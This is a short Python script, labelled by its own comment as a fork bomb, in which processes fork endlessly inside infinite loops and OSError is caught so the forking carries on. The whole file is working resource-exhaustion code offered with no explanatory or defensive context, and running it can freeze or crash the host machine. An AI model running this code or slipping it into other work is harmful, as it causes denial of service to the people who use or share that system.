# A fork bomb.
import os

try:
    while True:
        if os.fork() == 0:
            while True:
                os.fork()
except OSError as error:
    print(error)
